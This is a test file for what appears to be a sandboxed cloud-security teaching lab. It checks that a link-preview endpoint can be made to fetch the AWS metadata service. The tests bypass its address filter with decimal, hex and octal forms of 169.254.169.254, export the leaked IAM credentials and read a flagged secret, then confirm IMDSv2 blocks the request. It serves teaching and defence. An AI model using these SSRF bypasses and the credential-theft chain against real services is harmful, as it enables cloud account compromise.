import { expect, test } from 'vitest'
import { awsWorld, azureWorld, TestShell } from '../../test/worlds.ts'

const shell = () => new TestShell(awsWorld)
const ROLE = 'latest/meta-data/iam/security-credentials'

test('the metadata service does not answer the learner’s own machine', async () => {
  expect(await shell().run('curl -s -S http://169.254.169.254/latest/meta-data/')).toMatchObject({
    exit: 28,
    output: 'curl: (28) Failed to connect to 169.254.169.254 port 80: Connection timed out\n',
  })
  expect(
    await new TestShell(azureWorld).prints(
      'curl -sS -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01',
    ),
  ).toContain('timed out')
})

test('the preview rejects internal-looking addresses, and fetches the same address in another notation', async () => {
  const one = shell()
  expect(await one.prints(`curl -s "http://198.51.100.7/preview?url=http://169.254.169.254/" | jq -r .error`)).toBe(
    'this address looks internal',
  )
  expect(await one.prints(`curl -s "http://198.51.100.7/preview?url=http://localhost/" | jq -r .error`)).toBe(
    'this address looks internal',
  )
  for (const host of ['2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '169.16689662'])
    expect([
      host,
      await one.prints(`curl -s "http://198.51.100.7/preview?url=http://${host}/${ROLE}/" | jq -r .preview`),
    ]).toEqual([host, 'report-box'])
})

test('credentials leaked by the preview have the permissions of the machine', async () => {
  const one = shell()
  await one.run(
    `curl -s "http://198.51.100.7/preview?url=http://2852039166/${ROLE}/report-box" | jq -r .preview > keys`,
  )
  await one.run(
    'export AWS_ACCESS_KEY_ID=$(jq -r .AccessKeyId keys) AWS_SECRET_ACCESS_KEY=$(jq -r .SecretAccessKey keys) AWS_SESSION_TOKEN=$(jq -r .Token keys)',
  )
  const read = await one.run(
    'aws ssm get-parameter --name signing-key --with-decryption --query Parameter.Value --output text',
  )
  expect(read.output).toBe('FLAG{parameter}\n')
  expect(read.log[0]).toMatchObject({
    source_ip: '203.0.113.24',
    identity: expect.stringMatching(/assumed-role\/report-box\/i-0/),
  })
})

test('with version two required, the same forged request gets a 401: it cannot send a PUT or a header', async () => {
  const one = shell()
  expect(
    await one.prints(
      `curl -s "http://198.51.100.8/preview?url=http://2852039166/${ROLE}/" | jq -c '[.status,.preview]'`,
    ),
  ).toBe('[401,"Unauthorized"]')
  expect(
    await one.prints(
      `curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "http://198.51.100.8/preview?url=http://2852039166/latest/api/token" | jq -r .status`,
    ),
  ).toBe('405')
})

test.each([
  ['curl -s -i http://198.51.100.7/nothing', 'HTTP/1.1 404 Not Found\ncontent-type: application/json'],
  ['curl -s -o /dev/null -w "%{http_code}" http://198.51.100.7/', '200'],
  ['curl -sf http://198.51.100.7/nothing; echo $?', '22'],
  [
    'curl -sG --data-urlencode "url=http://2852039166/latest/meta-data/instance-id" http://198.51.100.7/preview | jq -r .status',
    '200',
  ],
  [
    'curl -sS http://example.com/; echo $?',
    'curl: (6) Could not resolve host: example.com (this shell reaches the addresses of the lab and nothing else)\n6',
  ],
  [
    'curl -sS http://198.51.100.7:22/; echo $?',
    'curl: (28) Failed to connect to 198.51.100.7 port 22: Connection timed out\n28',
  ],
  ['curl -sS http://10.0.1.9/', 'curl: (6) Could not resolve host: 10.0.1.9'],
  ['curl', 'curl: (2) no URL specified'],
])('%s', async (line, words) => {
  expect(await shell().prints(line)).toContain(words)
})
